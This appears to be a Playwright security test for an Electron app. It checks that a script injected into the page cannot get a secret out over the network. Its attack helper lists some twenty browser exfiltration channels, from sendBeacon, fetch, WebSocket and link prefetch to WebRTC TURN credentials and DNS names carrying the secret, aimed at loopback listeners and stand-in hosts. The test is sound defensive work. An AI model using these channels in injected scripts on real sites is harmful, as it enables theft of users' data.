import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import path from 'node:path';
import type { Page } from '@playwright/test';
import { expect, test } from './support/fixtures';

/** Listens for connections and packets on loopback, on one port number for each protocol. */
async function listeners() {
  const heard: string[] = [];
  const tcp = createServer((socket) => {
    heard.push('tcp');
    socket.on('error', () => {}).on('data', (data) => heard.push(data.toString('latin1')));
  });
  tcp.listen(0, '127.0.0.1');
  const udp = createSocket('udp4', () => heard.push('udp'));
  udp.bind(0, '127.0.0.1');
  await Promise.all([once(tcp, 'listening'), once(udp, 'listening')]);
  const address = tcp.address();
  const tcpPort = typeof address === 'object' && address !== null ? address.port : 0;
  const ports = { tcpPort, udpPort: udp.address().port };
  return { heard, ports, close: () => [tcp.close(), udp.close()] };
}

/** What a script that took over the page tries, to get `secret` out of the app. */
async function attack(page: Page, ports: { tcpPort: number; udpPort: number }, secret: string) {
  await page.evaluate(
    async ({ tcpPort, udpPort, text }) => {
      const link = (rel: string, href: string, as?: string) => {
        const element = document.createElement('link');
        Object.assign(element, { rel, href }, as === undefined ? {} : { as });
        document.head.append(element);
      };
      const site = `http://127.0.0.1:${tcpPort}`;
      const attempts: (() => unknown)[] = [
        () => link('preconnect', site),
        () => link('preconnect', `http://localhost:${tcpPort}`),
        () => link('preconnect', `http://${text}-preconnect.example`),
        () => link('dns-prefetch', `http://${text}-link.example`),
        () => link('prefetch', `${site}/prefetch`),
        () => link('preload', `${site}/preload`, 'image'),
        () => link('modulepreload', `${site}/module`),
        () => link('stylesheet', `${site}/style`),
        () => link('icon', `${site}/icon`),
        () => link('manifest', `${site}/manifest`),
        () => {
          const anchor = document.createElement('a');
          anchor.href = `http://${text}-anchor.example`;
          anchor.ping = `${site}/ping`;
          document.body.append(anchor);
          anchor.click();
        },
        () => {
          const image = document.createElement('img');
          image.src = `${site}/image`;
          document.body.append(image);
        },
        () => fetch(site),
        () => navigator.sendBeacon(site, text),
        () => new WebSocket(`ws://127.0.0.1:${tcpPort}`),
        () => new EventSource(site),
        () => new WebTransport(`https://127.0.0.1:${udpPort}`),
        () => new Worker(`${site}/worker`),
        () => navigator.serviceWorker.register(`${site}/worker`),
        async () => {
          const server = { username: text, credential: text };
          const peer = new RTCPeerConnection({
            iceServers: [
              { urls: `stun:127.0.0.1:${udpPort}` },
              { urls: `stun:${text}-stun.example:${udpPort}` },
              { ...server, urls: `turn:127.0.0.1:${udpPort}?transport=udp` },
              { ...server, urls: `turn:127.0.0.1:${tcpPort}?transport=tcp` },
              { ...server, urls: `turn:${text}-turn.example:${tcpPort}?transport=tcp` },
            ],
          });
          peer.createDataChannel(text);
          await peer.setLocalDescription(await peer.createOffer());
        },
        () => {
          location.href = site;
        },
      ];
      for (const attempt of attempts)
        await Promise.resolve()
          .then(attempt)
          .catch(() => {});
    },
    { ...ports, text: secret },
  );
  await page.waitForTimeout(3_000);
}

test('a script in the page reaches no network: no connection, no packet, no name (SEC-39)', {
  tag: '@electron-facts',
}, async ({ launch, profile }) => {
  const network = await listeners();
  const netLog = path.join(profile, 'net-log.json');
  const app = await launch({ args: [`--log-net-log=${netLog}`] });
  await attack(app.window, network.ports, 's-e-c-r-e-t');
  network.close();
  expect(network.heard).toEqual([]);
  await app.quit();
  const names = (await readFile(netLog, 'latin1')).match(/s-e-c-r-e-t-\w+/g);
  // Chromium looks up a TURN server's name whatever its policy says: SECURITY.md.
  expect([...new Set(names)]).toEqual(['s-e-c-r-e-t-turn']);
});
